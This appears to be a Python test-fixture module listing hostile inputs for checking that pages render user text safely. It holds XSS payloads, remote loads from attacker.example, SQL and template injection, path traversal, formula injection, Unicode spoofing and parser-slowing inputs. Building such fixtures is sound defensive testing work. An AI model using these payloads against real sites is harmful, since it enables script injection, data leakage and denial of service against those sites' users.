"""Texts that attack whoever shows them, for every page that shows text.

Each tries to run a script, to load something from elsewhere, to imitate the page around it, or to
make a parser slow. `HOSTILE` holds short ones that a database can hold; `HEAVY` the slow ones.
"""

from typing import Final

HOSTILE: Final = {
    "script": "<script>alert('script')</script>",
    "image that fails": "<img src=x onerror=alert('img')>",
    "image from elsewhere": "![a picture](https://attacker.example/pixel.png)",
    "image by reference": "![a][b]\n\n[b]: https://attacker.example/reference.png 'hidden words'",
    "svg": "<svg/onload=alert('svg')><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror="
    "alert(1)>'>",
    "style": "<style>@import 'https://attacker.example/style.css';*{color:red}</style>",
    "style attribute": "<p style='background:url(https://attacker.example/bg)'>styled</p>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "base": "<base href='https://attacker.example/'>"
    "<meta http-equiv=refresh content='0;url=//a.b'>",
    "form": "<form action='https://attacker.example/'>"
    "<button autofocus onfocus=alert(1)>go</button>",
    "javascript link": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "javascript in pieces": "[a](java\tscript:alert(1)) [b](<java\nscript:alert(1)>) "
    "[c](javascript&colon;alert(1)) [d](&#106;avascript:alert(1)) [e](\x01javascript:alert(1))",
    "data link": "[a](data:text/html,<script>alert(1)</script>) "
    "[b](vbscript:msgbox) [c](file:///etc)",
    "own pages": "[undo](/undo) [out](//attacker.example) "
    "[up](../../api/v1/logout) [q](?role=owner)",
    "link out": "[bank](https://attacker.example/login 'your bank') <https://attacker.example/auto>",
    "autolink": "<https://attacker.example/\"onmouseover=alert(1)//> <a@b.c'onclick=alert(1)>",
    "fence": '```"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "table": "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| `</td>` | b | a cell too many |",
    "formula": "$\\href{javascript:alert(1)}{x}$ $\\htmlData{a=b}{x}$ "
    "$\\includegraphics{https://attacker.example/x}$ $\\def\\a{\\a\\a}\\a$",
    "clobbering": "<a id=csrf><a id=csrf name=content href=x> "
    "<img name=body> <form id=task></form>",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "json end": "</script><script>alert(1)</script> --> ]]> </textarea></title>",
    "spreadsheet": "=HYPERLINK('https://attacker.example','x') +1+1 -1 @SUM(1)",
    "terminal": "\x1b]8;;https://attacker.example\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred\x07",
    "turned round": "the answer is \u202egnorw\u202c, and \u2066hidden\u2069",
    "no width": "is\u200bthis\u2060one\ufeffword\u00ad? \U000e0041\U000e0042",
    "look-alike": "p\u0430ypal \u0391dmin",
    "tall": "Z" + "\u0335\u0321\u031b\u0316\u0300" * 40 + "algo",
    "wide": "w" * 3000,
    "injection": "Robert'); DROP TABLE judgements;-- \" OR 1=1 ' UNION SELECT",
    "imitation": '<div class="saved">Saved.</div> <span class="unseen">U+0000</span>',
    "paths": "../../../../etc/passwd %2e%2e%2f C:\\Windows",
}
"""By what they try."""

NOT_TEXT: Final = {
    "nul": "a\x00b",
    "lone surrogates": "a\ud800b\udfff",
    "not characters": "a\ufffe\uffff\ufdd0b",
}
"""No database of ours holds these; a renderer meets them all the same."""

SIZE: Final = 100_000
HEAVY: Final = {
    pattern: (pattern * SIZE)[:SIZE]
    for pattern in (
        ">", "> ", "[", "![", "*", "a**b", "*a_ ", "**a *a ", "`a``b", "[a](b", "[a](<b", "- ",
        "1. ", "[a][b]", "[a]: /b\n", "&amp;", "<", "<a:", "\\*", "```\n", "***\n", "# a\n",
        "a\n=\n", "~~a~", "> > > > a\n", ">a\n", "_a__b", "\t", " a", "a\n",
        "|a|b|\n|-|-|\n", "a|b\n-|-\n",
        "\u200b", "\u200ba", "\u202e", "<a href=", "a\u0300", "$\\def\\a{\\a\\a}", "\x00",
        "1) - > ",
    )
} | {
    "[ then words": "[" * 3_900 + "a" * (SIZE - 3_900),
    "![ then words": "![" * 1_900 + "a" * (SIZE - 3_800),
    "* then words": "*a " * 1_900 + "b" * (SIZE - 3_800),
    "< then words": "<a:" * 1_900 + "b" * (SIZE - 3_800),
    "& then words": "&#x" * 1_900 + "9" * (SIZE - 3_800),
    "ticks": "".join("`" * n + "a" for n in range(80)) + "b" * (SIZE - 3_200),
    "nested list": "\n".join("  " * depth + "- a" for depth in range(400))[:SIZE],
    "wide table": "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|b" * 1_000 + "|\n",
    "one link": "[a](https://" + "b" * SIZE + ")",
    "open link": "[a](" + "(" * 3_900 + "b" * SIZE,
    "one line": "word " * (SIZE // 5),
    "paragraphs": "Some *words* of an answer, and `code`.\n\n" * (3_900 // 6),
}  # fmt: skip
"""About 100 KB each, by what they repeat."""
